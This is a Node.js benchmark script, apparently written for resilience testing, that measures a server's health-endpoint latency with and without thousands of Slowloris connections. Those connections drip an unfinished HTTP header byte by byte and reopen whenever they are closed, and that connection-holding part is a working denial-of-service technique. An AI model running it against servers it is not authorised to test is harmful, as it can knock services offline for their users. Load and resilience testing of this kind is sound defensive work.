// slowloris.mjs URL SOCKETS: how long a normal client waits for an answer, alone and beside SOCKETS connections that send a head byte by
// byte and never end it. A connection that the server closes is opened anew. One JSON line: p50 and p99 in microseconds of both.
import net from "node:net";
import http from "node:http";

const url = new URL(process.argv[2]);
const wanted = Number(process.argv[3] ?? 2000);
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });

function ask() {
  return new Promise((resolve, reject) => {
    const started = process.hrtime.bigint();
    http.get({ host: url.hostname, port: url.port, path: "/health", agent }, (answer) => {
      answer.resume();
      answer.on("end", () => resolve(Number(process.hrtime.bigint() - started) / 1000));
    }).on("error", reject);
  });
}

async function measure(count) {
  for (let n = 0; n < 200; n++) await ask();
  const times = [];
  for (let n = 0; n < count; n++) times.push(await ask());
  times.sort((a, b) => a - b);
  return { p50: Math.round(times[count >> 1]), p99: Math.round(times[Math.floor(count * 0.99)]) };
}

const open = new Set();
let opened = 0;
function slow() {
  const socket = net.connect(Number(url.port), url.hostname);
  opened++;
  socket.on("connect", () => { open.add(socket); socket.write("GET /health HTTP/1.1\r\nHost: a\r\nX: "); });
  socket.on("error", () => {});
  socket.on("close", () => { open.delete(socket); if (!over) slow(); });
}
let over = false;

const alone = await measure(5000);
for (let n = 0; n < wanted; n++) slow();
while (open.size < wanted * 0.99) await new Promise((resolve) => setTimeout(resolve, 20));
const drip = setInterval(() => { for (const socket of open) socket.write("a"); }, 2000);
const beside = await measure(5000);
const held = open.size;
over = true;
clearInterval(drip);
for (const socket of open) socket.destroy();
console.log(JSON.stringify({ alone, beside, held, opened, ratio_p99: beside.p99 / alone.p99 }));
process.exit(0);
